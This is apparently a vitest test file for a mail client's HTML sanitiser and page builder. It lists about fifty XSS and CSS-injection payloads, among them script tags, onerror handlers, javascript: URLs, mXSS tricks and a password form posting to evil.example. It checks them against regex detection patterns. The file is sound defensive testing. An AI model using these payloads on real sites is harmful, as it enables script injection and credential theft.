import { describe, expect, test } from "vitest";
import { htmlDocument } from "./html-document.ts";
import { sanitiseHtml } from "./sanitise.ts";
import { processorMs } from "../../../tests/support/processor-time.ts";

const blocked = {
  imageUrl: (src: string) => `/images?u=${encodeURIComponent(src)}`,
  cidUrl: (cid: string) => `/cid/${cid}`,
  allowRemote: false,
};
const allowed = { ...blocked, allowRemote: true };
const clean = (html: string) => sanitiseHtml(html, blocked).html;

const vectors = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='x' onerror\n=\n'alert(1)'>",
  '<img """><script>alert(1)</script>">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math href='javascript:alert(1)'>x</math>",
  "<body onload=alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href=' &#14; javascript:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
  "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
  "<img src='javascript:alert(1)'>",
  "<iframe src='https://evil.example'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='x.swf'></object><embed src='x.swf'>",
  "<form action='https://evil.example'><input name=password><button>Go</button></form>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>@im\\port url(https://evil.example/x.css);</style>",
  "<style>body{background:url(javascript:alert(1))}</style>",
  "<style></style><img src=x onerror=alert(1)>",
  "<style>a{}</sty/**/le><script>alert(1)</script>",
  "<div style='background:url(javascript:alert(1))'>x</div>",
  "<div style='background:\\75rl(https://evil.example/x)'>x</div>",
  "<div style='background:u/**/rl(https://evil.example/x)'>x</div>",
  "<div style='width:expression(alert(1))'>x</div>",
  "<div style='-moz-binding:url(https://evil.example/x.xml#a)'>x</div>",
  "<div style='background-image:image-set(\"https://evil.example/x.png\" 1x)'>x</div>",
  "<template><img src=x onerror=alert(1)></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<textarea></textarea/><img src=x onerror=alert(1)></textarea>",
  "<isindex action=javascript:alert(1) type=image>",
  "<video poster=https://evil.example/x><source onerror=alert(1)></video>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
];

/** Anything that could run, submit, frame or load by itself. */
const dangerous = [
  /<(?!\/?(?:a|abbr|b|blockquote|br|center|code|div|em|font|h[1-6]|hr|i|img|li|ol|p|pre|span|strong|style|table|tbody|td|th|tr|u|ul)\b)[a-z/!?]/i,
  /<[^>]*\son\w+\s*=/i,
  /(?:href|src|background|action)\s*=\s*["']?\s*(?:javascript|vbscript|data:(?!image\/(?:png|jpe?g|gif|webp|bmp);))/i,
  /(?:\burl\(|image-set|src=|href=|background=)[^>)]*evil\.example/i,
  /@import|expression\(|-moz-binding|image-set\(/i,
];

describe("sanitiseHtml", () => {
  test.each(vectors)("takes the sting out of %s", (vector) => {
    const { html } = sanitiseHtml(`<p>before</p>${vector}<p>after</p>`, blocked);
    const body = html.replace(/data-blocked-src="[^"]*"/g, "");
    for (const pattern of dangerous) expect(body).not.toMatch(pattern);
    expect(body).toContain("before");
  });

  test("keeps structure, styles and tables", () => {
    const html =
      '<table width="600"><tbody><tr><td style="color:#333;padding:4px" bgcolor="#fff">Hi <b>you</b></td></tr></tbody></table>';
    expect(clean(html)).toBe(html);
  });

  test("leaves remote pictures out until they are allowed, and counts them", () => {
    const html =
      '<img src="https://a.example/1.png" alt="x"><td background="//a.example/2.png">x</td><p style="background:url(http://a.example/3.png) #fff">y</p>';
    const out = sanitiseHtml(html, blocked);
    expect(out).toMatchObject({ blockedImages: 3, hasRemoteImages: true });
    expect(out.html).toContain('data-blocked-src="https://a.example/1.png"');
    expect(out.html).not.toMatch(/\s(src|background)=|url\(/);
    const shown = sanitiseHtml(html, allowed);
    expect(shown).toMatchObject({ blockedImages: 0, hasRemoteImages: true });
    expect(shown.html).toContain('src="/images?u=https%3A%2F%2Fa.example%2F1.png"');
    expect(shown.html).toContain('background="/images?u=https%3A%2F%2Fa.example%2F2.png"');
    expect(shown.html).toContain("url(&quot;/images?u=http%3A%2F%2Fa.example%2F3.png&quot;) #fff");
  });

  test("a picture the proxy refuses stays out", () => {
    expect(
      sanitiseHtml('<img src="https://a.example/1.png">', { ...allowed, imageUrl: () => null }).blockedImages,
    ).toBe(1);
  });

  test("shows inline parts and raster data", () => {
    const out = sanitiseHtml('<img src="cid:a%40b"><img src="data:image/png;base64,iVBORw0KGgo=">', blocked);
    expect(out).toMatchObject({ blockedImages: 0, hasRemoteImages: false });
    expect(out.html).toContain('src="/cid/a@b"');
    expect(out.html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
  });

  test("links open outside and name their target", () => {
    expect(clean('<a href="https://a.example/x?a=1&amp;b=2" target="_top" onclick="x()">go</a>')).toBe(
      '<a href="https://a.example/x?a=1&amp;b=2" title="https://a.example/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">go</a>',
    );
    expect(clean('<a href="/v1/logout">go</a>')).toBe("<a>go</a>");
    expect(clean('<a href="//a.example">go</a>')).toContain('href="https://a.example"');
  });

  test("keeps style sheets, scrubbed", () => {
    const out = clean(
      "<style>@import 'x.css'; .a > b{color:red;position:fixed;background:url(https://a.example/x)} @media (max-width:600px){.a{width:100%}}</style><p class=a>x</p>",
    );
    expect(out).toMatch(
      /^<style>\.a > b\{color:red;position:static;background:none\} @media \(max-width:600px\)\{\.a\{width:100%\}\}<\/style>/,
    );
  });

  test.each([
    ["\\75rl(https://a.example/x)", "none"],
    ["\\000075 rl('https://a.example/x')", "none"],
    ["url(https://a.example/x", "none"],
    ["image-set('https://a.example/x' 1x) red", "none"],
  ])("a background of %s becomes %s", (value, expected) => {
    expect(clean(`<p style="background:${value}">x</p>`)).toBe(`<p style="background:${expected}">x</p>`);
  });

  test.each([
    ["min-height:100vh", "min-height:auto"],
    ["height: 62.5dvh !important", "height: auto !important"],
    ["height:calc(100vh + 40px);width:50vw", "height:calc(auto + 40px);width:50vw"],
    ["background:url(https://a.example/100vh.png)", "background:none"],
    ["font-family:A4vh", "font-family:A4vh"],
  ])("the height of the window is none of a mail's lengths: %s", (written, expected) => {
    expect(clean(`<p style="${written}">x</p>`)).toBe(`<p style="${expected}">x</p>`);
    expect(clean(`<style>p{${written}}</style>`)).toBe(`<style>p{${expected}}</style>`);
  });

  test("a picture cannot take the name of a part of the document; an anchor keeps its own", () => {
    const taken = ["body", "documentElement", "addEventListener"];
    for (const name of taken) expect(clean(`<img id="a" name="${name}">`)).toBe('<img id="a" />');
    expect(clean('<a name="terms">x</a>')).toBe('<a name="terms">x</a>');
  });

  test("the body's own colours go with a div", () => {
    expect(clean('<html><body bgcolor="#eeeeee" text="navy"><p>x</p></body></html>')).toContain(
      'style="background-color:#eeeeee;color:navy"',
    );
  });

  test("ends soon on deep and on repeated markup", () => {
    const started = processorMs();
    for (const html of [
      "<div>".repeat(400_000),
      "<p><li>".repeat(200_000),
      "<style>".repeat(50_000),
      "<a href='".repeat(50_000),
      "url(".repeat(5_000),
    ]) {
      sanitiseHtml(html, blocked);
      sanitiseHtml(`<p style="${html}">`, blocked);
    }
    expect(processorMs(started)).toBeLessThan(8_000);
  });
});

describe("htmlDocument", () => {
  test("folds quotes without scripts", () => {
    const page = htmlDocument('<div>New</div><div class="gmail_quote">Old</div>', {
      dark: false,
      quoteLabel: "Quoted & more",
    });
    expect(page).toMatch(
      /<div>New<\/div><details class="mail-quote"><summary>Quoted &amp; more<\/summary><div class="gmail_quote">Old/,
    );
    expect(page).not.toContain("<script");
  });

  test("empty lines before the folded quote go, those inside the answer stay", () => {
    const page = htmlDocument(
      '<div><p>a<br>b</p><p>&nbsp;</p><p>c</p></div><div><br /></div> <br><div class="gmail_quote">Old</div>',
      { dark: false },
    );
    expect(page).toContain("<div><p>a<br>b</p><p>&nbsp;</p><p>c</p></div><details");
  });

  test("follows dark mode unless the mail brings grounds of its own", () => {
    expect(htmlDocument("<p>plain</p>", { dark: true })).toContain('class="dark"');
    const own = htmlDocument('<p style="background-color:#f2efe9;color:#111">own</p>', { dark: true });
    expect(own).not.toContain('class="dark"');
    expect(own).toContain('class="paper"');
    expect(own).toContain("color:#111"); // as the sender made it
  });

  test("on paper the sender's dark design does not hold", () => {
    const css = "<style>p{background:#fee}@media (prefers-color-scheme: dark){p{color:#fff}}</style><p>x</p>";
    expect(htmlDocument(css, { dark: true })).not.toContain("color-scheme: dark");
    expect(htmlDocument(css, { dark: false })).toContain("prefers-color-scheme: dark");
  });
});
